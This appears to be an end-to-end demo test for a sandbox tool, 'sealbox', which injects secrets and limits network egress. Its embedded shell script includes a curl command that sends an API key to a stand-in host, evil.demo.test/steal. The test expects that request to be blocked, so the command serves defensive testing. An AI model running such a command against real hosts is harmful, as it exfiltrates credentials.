"""The main job, end to end with real parts.

A sandbox gets DEMO_API_KEY bound to api.demo.test. Inside it, curl calls api.demo.test (the
upstream receives the real key; the sandbox only ever sees a placeholder, even in the echoed
response) and then tries to send the same variable to evil.demo.test (blocked with a 403; the
evil server receives nothing). Both "hosts" are local HTTPS servers pinned with --resolve.
"""

from __future__ import annotations

import os
import subprocess
import sys
import tempfile
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "tests"))

from support.upstream import EchoServer, TestCA  # noqa: E402

REAL_KEY = "sk-demo-" + os.urandom(12).hex()


def main() -> int:
    with tempfile.TemporaryDirectory() as tmp:
        ca = TestCA.create(Path(tmp))
        api = EchoServer(tls=ca.server_context(Path(tmp), ["api.demo.test"]))
        evil = EchoServer(tls=ca.server_context(Path(tmp), ["evil.demo.test"]))
        script = (
            'echo "inside, DEMO_API_KEY=$DEMO_API_KEY";'
            ' echo "--- allowed host:";'
            ' curl -sS https://api.demo.test/v1/models -H "Authorization: Bearer $DEMO_API_KEY"'
            ' -D - -o /dev/null | grep -i -E "^(HTTP|x-echo)";'
            ' echo "--- other host:";'
            ' curl -sS https://evil.demo.test/steal -H "X-Key: $DEMO_API_KEY" -D - -o /dev/null'
            ' | grep -i -E "^(HTTP|x-sealbox)"; true'
        )
        cmd = [
            str(ROOT / ".venv" / "bin" / "sealbox"), "run",
            "--allow-net", "api.demo.test", "--allow-net", "evil.demo.test",
            "--secret", "DEMO_API_KEY@api.demo.test",
            "--resolve", f"api.demo.test:443:127.0.0.1:{api.port}",
            "--resolve", f"evil.demo.test:443:127.0.0.1:{evil.port}",
            "--upstream-ca", str(ca.cert_path),
            "--", "sh", "-c", script,
        ]
        print("$ export DEMO_API_KEY=sk-demo-…  (a real-looking key, kept outside)")
        print("$ sealbox run --allow-net api.demo.test --allow-net evil.demo.test "
              "--secret DEMO_API_KEY@api.demo.test … -- sh -c '…curl…'\n")
        proc = subprocess.run(cmd, env={**os.environ, "DEMO_API_KEY": REAL_KEY},
                              capture_output=True, text=True, timeout=120)
        print(proc.stdout, end="")
        print(proc.stderr, end="", file=sys.stderr)
        api.close()
        evil.close()
        got = [{k.lower(): v for k, v in r.headers.items()}.get("authorization") for r in api.received]
        checks = {
            "sandbox exited 0": proc.returncode == 0,
            "api.demo.test received the real key": got == [f"Bearer {REAL_KEY}"],
            "the real key never appeared inside the sandbox": REAL_KEY not in proc.stdout,
            "the sandbox saw a placeholder": "sealbox-secret-" in proc.stdout,
            "evil.demo.test received nothing": evil.received == [],
            "the exfiltration attempt got 403": "403" in proc.stdout.split("--- other host:")[-1],
        }
        print("\nchecks:")
        for name, ok in checks.items():
            print(f"  {'ok  ' if ok else 'FAIL'} {name}")
        return 0 if all(checks.values()) else 1


if __name__ == "__main__":
    sys.exit(main())
